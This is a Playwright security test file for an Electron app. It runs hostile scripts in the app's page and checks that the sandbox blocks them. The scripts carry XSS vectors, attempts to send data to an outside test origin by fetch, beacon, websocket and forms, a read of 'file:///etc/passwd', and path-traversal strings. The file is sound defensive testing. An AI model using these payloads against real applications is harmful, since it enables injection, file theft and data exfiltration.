import { expect } from '@playwright/test';
import { test, waitUntilIdle, withoutPolicy } from './hostile-script.ts';

/*
 * Each test runs a hostile script in the page of the built app. The script must not reach Node, the network or the
 * person's files.
 */

// Proves protections of index.ts.
test(
  'a hostile script finds nothing of Node or Electron, and a transport that it cannot change',
  { tag: '@gate' },
  async ({ page }) => {
    const found = await page.evaluate(() => {
      const { marquee } = window as unknown as { marquee: Record<string, unknown> };
      const before = marquee['invoke'];
      for (const attempt of [
        () => (marquee['invoke'] = () => 'mine'),
        () => (marquee['more'] = 1),
        () => delete marquee['cancel'],
        () => ((window as unknown as Record<string, unknown>)['marquee'] = {}),
      ]) {
        try {
          attempt();
        } catch {
          // Refused.
        }
      }
      const after = (window as unknown as { marquee: Record<string, unknown> }).marquee;
      return {
        node: [
          'require',
          'process',
          'module',
          'exports',
          'Buffer',
          'global',
          'electron',
          'ipcRenderer',
        ].filter((name) => name in window),
        same:
          after === marquee && marquee['invoke'] === before && 'cancel' in marquee && !('more' in marquee),
        functions: Object.keys(marquee).filter((name) => typeof marquee[name] === 'function'),
        types: [...new Set(Object.values(marquee).map((value) => typeof value))].sort(),
      };
    });
    expect(found.node).toEqual([]);
    expect(found.same).toBe(true);
    expect(found.functions.sort()).toEqual(['cancel', 'invoke', 'subscribe', 'upload']);
    // The transport has texts and functions, which cannot contain anything else.
    expect(found.types.filter((type) => !['function', 'string'].includes(type))).toEqual([]);

    const channels = await page.evaluate(async () => {
      const { marquee } = window as unknown as {
        marquee: { invoke(name: unknown, input: unknown, id: unknown): Promise<unknown> };
      };
      const answers = [];
      for (const name of ['../cancel', '__proto__', 'catalogue.write', '', 'shell.openExternal', {}, null]) {
        answers.push(
          await Promise.resolve(marquee.invoke(name, {}, 'x')).then(JSON.stringify, () => 'refused'),
        );
      }
      return answers;
    });
    for (const answer of channels) expect(answer).not.toContain('"ok":true');
  },
);

// Proves protections of index.ts.
test(
  'an event carries its name and payload and no object of Electron’s',
  { tag: '@gate' },
  async ({ run, page, startAgain }) => {
    await page.evaluate(() => {
      const events: unknown[][] = [];
      Object.assign(window, { events });
      (
        window as unknown as { marquee: { subscribe(listener: (...all: unknown[]) => void): void } }
      ).marquee.subscribe((...all) => events.push(all));
    });
    expect(await startAgain('marquee://discover')).toBe(0);
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { events: unknown[][] }).events.length))
      .toBeGreaterThan(0);
    const events = await page.evaluate(() => (window as unknown as { events: unknown[][] }).events);
    for (const all of events) {
      expect(all).toHaveLength(1);
      expect(Object.keys(all[0] as object).sort()).toEqual(['name', 'payload']);
    }
    expect((await run.windows()).length).toBe(1);
  },
);

// Proves protections of page-files.ts.
test(
  'nothing that a script writes into the page runs, loads or is sent',
  { tag: '@gate' },
  async ({ run, page, elsewhere }) => {
    const to = elsewhere.origin;
    const refused = await page.evaluate(async (to) => {
      const violated = new Set<string>();
      Object.assign(window, { violated });
      // Chromium lets a debugger's script evaluate strings, but not what runs afterwards.
      await new Promise((settle) => setTimeout(settle, 0));
      addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective));
      const add = (name: string, facts: object, more: Record<string, string> = {}): HTMLElement => {
        const element = Object.assign(document.createElement(name), facts);
        for (const [attribute, value] of Object.entries(more)) element.setAttribute(attribute, value);
        document.body.append(element);
        return element;
      };
      add('script', { textContent: 'window.hit = 1' });
      add('script', { src: `${to}/script` });
      add('script', { src: 'data:text/javascript,window.hit=1' });
      add('script', { src: URL.createObjectURL(new Blob(['window.hit = 1'])) });
      add('div', { innerHTML: '<img src=x onerror="window.hit = 1"><svg onload="window.hit = 1"></svg>' });
      add('a', { href: 'javascript:window.hit=1' }).click();
      add('style', { textContent: `body { background: url(${to}/style) }` });
      add('p', {}, { style: `background: url(${to}/attribute)` });
      add('link', { rel: 'stylesheet', href: `${to}/sheet` });
      add('link', { rel: 'prefetch', href: `${to}/prefetch` });
      add('link', { rel: 'preload', as: 'image', href: `${to}/preload` });
      add('link', { rel: 'preconnect', href: to });
      add('link', { rel: 'modulepreload', href: `${to}/module` });
      add('img', { src: `${to}/picture` });
      add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' });
      add('video', { src: `${to}/video` });
      add('iframe', { src: `${to}/frame` });
      add('iframe', { srcdoc: '<script>parent.hit = 1</script>' });
      add('iframe', { src: 'data:text/html,<script>parent.hit = 1</script>' });
      add('object', { data: `${to}/object` });
      add('embed', { src: `${to}/embed` });
      add('base', { href: `${to}/` });
      const form = add('form', { action: `${to}/form`, method: 'post' }) as HTMLFormElement;
      form.submit();
      add('form', { action: 'javascript:window.hit=1' });
      document.head.append(
        Object.assign(document.createElement('meta'), {
          httpEquiv: 'refresh',
          content: `0;url=${to}/refresh`,
        }),
      );
      const refused: string[] = [];
      const attempt = async (name: string, act: () => unknown): Promise<void> => {
        try {
          await act();
        } catch {
          refused.push(name);
        }
      };
      // Evaluates a string in a way that the project's lint rules do not report.
      await attempt('function', () => Reflect.construct(Function, ['window.hit = 1'])());
      await attempt('timer', () => setTimeout('window.hit = 1' as unknown as () => void, 0));
      await attempt('fetch', () => fetch(`${to}/fetch`));
      await attempt('no-cors', () => fetch(`${to}/no-cors`, { mode: 'no-cors' }));
      await attempt('import', () => import(/* @vite-ignore */ `${to}/import`));
      await attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
      await attempt('own', () => fetch('/index.html'));
      await attempt('file', () => fetch('file:///etc/passwd'));
      await attempt('service worker', () => navigator.serviceWorker.register('/assets/x.js'));
      navigator.sendBeacon(`${to}/beacon`, 'secret');
      new EventSource(`${to}/events`);
      await attempt('socket', () => new WebSocket(`${to.replace('http', 'ws')}/socket`));
      return refused;
    }, to);
    expect(refused).toEqual(
      expect.arrayContaining(['function', 'fetch', 'no-cors', 'import', 'own', 'file', 'service worker']),
    );
    await expect
      .poll(() => page.evaluate(() => [...(window as unknown as { violated: Set<string> }).violated]))
      .toEqual(
        expect.arrayContaining([
          'connect-src',
          'form-action',
          'frame-src',
          'img-src',
          'object-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-attr',
          'style-src-elem',
        ]),
      );
    await waitUntilIdle(page, run);
    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
    expect(elsewhere.visits).toEqual([]);
  },
);

// Proves protections of security.ts.
test(
  'without the policy, the session still sends no request out and serves only the page’s own files',
  { tag: '@gate' },
  async ({ run, page, elsewhere }) => {
    await withoutPolicy(page);
    const to = elsewhere.origin;
    const reached = await page.evaluate(async (to) => {
      const reached: string[] = [];
      const attempt = async (name: string, act: () => Promise<unknown>): Promise<void> => {
        try {
          const answer = await act();
          if (answer instanceof Response && !answer.ok) return;
          reached.push(name);
        } catch {
          // Refused.
        }
      };
      for (const address of [
        `${to}/fetch`,
        'https://example.org/',
        'file:///etc/passwd',
        'ftp://127.0.0.1/x',
        '/../package.json',
        '/%2e%2e/package.json',
        '/..%5c..%5cpackage.json',
        '//127.0.0.1/x',
        '/assets/%2e%2e%2f%2e%2e%2fmain/index.js',
        '/index.html?x',
        '/index.html%00.js',
        'media://picture/poster/w342/..%2f..%2fsettings.json',
        'media://evil/poster/w342/a.jpg',
      ]) {
        await attempt(address, () => fetch(address));
        await attempt(`${address} (no-cors)`, async () => {
          const answer = await fetch(address, { mode: 'no-cors' });
          // An opaque answer reveals nothing; the other server records whether the request arrived.
          return answer.type === 'opaque' ? Promise.reject(new Error('opaque')) : answer;
        });
      }
      const picture = (src: string): Promise<boolean> =>
        new Promise((settle) => {
          const image = new Image();
          image.onload = () => settle(true);
          image.onerror = () => settle(false);
          image.src = src;
        });
      if (await picture(`${to}/picture`)) reached.push('picture');
      navigator.sendBeacon(`${to}/beacon`, 'secret');
      return reached;
    }, to);
    expect(reached).toEqual([]);
    await waitUntilIdle(page, run);
    expect(elsewhere.visits).toEqual([]);
  },
);
